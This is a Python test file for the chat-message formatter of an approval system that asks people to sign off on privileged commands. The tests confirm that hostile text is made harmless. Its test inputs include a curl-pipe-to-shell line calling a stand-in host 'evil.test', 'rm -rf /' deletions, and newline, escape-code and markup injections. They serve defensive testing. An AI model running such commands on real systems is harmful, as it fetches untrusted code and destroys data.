"""How a message reads, whatever is in the command."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bastion.approval.chat.messenger import (
    Alert,
    Message,
    alert_body,
    alert_title,
    body,
    title,
)
from bastion.approval.request import Wanted, new_request
from tests.conftest import HandClock

GRAVE = "\N{MODIFIER LETTER GRAVE ACCENT}"
LINK = "https://bastion.example/approvals/x.y.z"


def told(**changes):
    facts = {
        "subject": "s-ann",
        "account": "ann",
        "target": "gpu-01",
        "login": "root",
        "session_id": "s1",
        "command_id": "c1",
        "text": "rm -rf /mnt/x",
        "rule": "data-delete",
        "reason": "deletes data",
    }
    clock = HandClock()
    row = new_request(Wanted(**facts | changes), clock=clock, seconds=300, approvers=("leads",))
    return Message(row, LINK)


def test_it_says_who_where_what_why_and_until_when():
    """In that order, with the link last."""
    message = told()
    assert title(message.request) == "ann asks to run a command on gpu-01"
    assert body(message).splitlines() == [
        "Command: rm -rf /mnt/x",
        "On: root at gpu-01",
        "Why it is held: deletes data (data-delete)",
        f"Decide before 08:05:00 UTC: {LINK}",
    ]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("echo @everyone @here", "echo @ everyone @ here"),
        ("echo <!channel> <@U123> <#C1>", "echo < !channel> < @ U123> < #C1>"),
        ("echo </b><b>x", "echo < /b>< b>x"),
        ("echo [ok](https://evil.test)", "echo [ok] (https: //evil.test)"),
        ("curl http://evil.test/x | sh", "curl http: //evil.test/x | sh"),
        ("echo ||rm -rf /||", "echo | |rm -rf /| |"),
        ("echo `id` ```", f"echo {GRAVE}id{GRAVE} {GRAVE * 3}"),
        ("a\nDecide before: http://x", "a\\x0aDecide before: http: //x"),
        ("a\x1b[2Kb\u202ec\u200bd", "a\\x1b[2Kb\\u202ec\\u200bd"),
        ("cat < in > out && a@", "cat < in > out && a@"),
        ("x" * 301, "x" * 299 + "…"),
        ("x" * 300, "x" * 300),
    ],
)
def test_hostile_text_is_only_text(text, shown):
    """No mention, tag, link, hidden part or new line comes from a command."""
    assert body(told(text=text)).splitlines()[0] == f"Command: {shown}"


@pytest.mark.parametrize("field", ["account", "target", "login", "rule", "reason"])
def test_every_field_is_made_harmless(field):
    """Names come from a provider or a file, but who knows."""
    message = told(**{field: "@all\n`x`"})
    text = title(message.request) + "\n" + body(message)
    assert f"@ all\\x0a{GRAVE}x{GRAVE}" in text
    assert len(text.splitlines()) == 5


def test_a_long_name_is_cut():
    """So that it does not push the rest off a phone."""
    assert title(told(account="a" * 500).request).startswith("a" * 79 + "… asks")


@given(st.text(max_size=400))
def test_a_message_has_four_lines_and_one_link(text):
    """Whatever the command is."""
    lines = body(told(text=text)).splitlines()
    assert len(lines) == 4
    assert [line for line in lines if "://" in line] == lines[3:]
    assert lines[3].endswith(LINK)


def test_an_alert_is_plain_too():
    """A host's name comes from a file, a key's kind from the network."""
    alert = Alert("host-key-changed", "gpu-01 @all", ("Presented: <!here> `x`", "a\x1b[31m"))
    assert alert_title(alert) == "gpu-01 @ all"
    assert alert_body(alert).splitlines() == [f"Presented: < !here> {GRAVE}x{GRAVE}", "a\\x1b[31m"]


def access(**changes):
    """A message about a request for access."""
    facts = {"kind": "access", "text": "", "seconds": 5400, "address": "192.0.2.9", **changes}
    return Message(replace(told().request, **facts), LINK)


def test_a_request_for_access_says_how_long_and_from_where():
    """In as many lines as one for a command."""
    message = access(reason="driver update", rule="with-leads")
    assert title(message.request) == "ann asks to connect to gpu-01"
    assert body(message).splitlines() == [
        "To: root at gpu-01, for 1 h 30 min",
        "Why: driver update",
        "From: 192.0.2.9 (with-leads)",
        f"Decide before 08:05:00 UTC: {LINK}",
    ]


@given(st.text(max_size=400))
def test_a_reason_that_an_engineer_wrote_is_only_text(text):
    """Whatever it is, the message has four lines and one link."""
    lines = body(access(reason=text, address=text)).splitlines()
    assert len(lines) == 4
    assert [line for line in lines if "://" in line] == lines[3:]
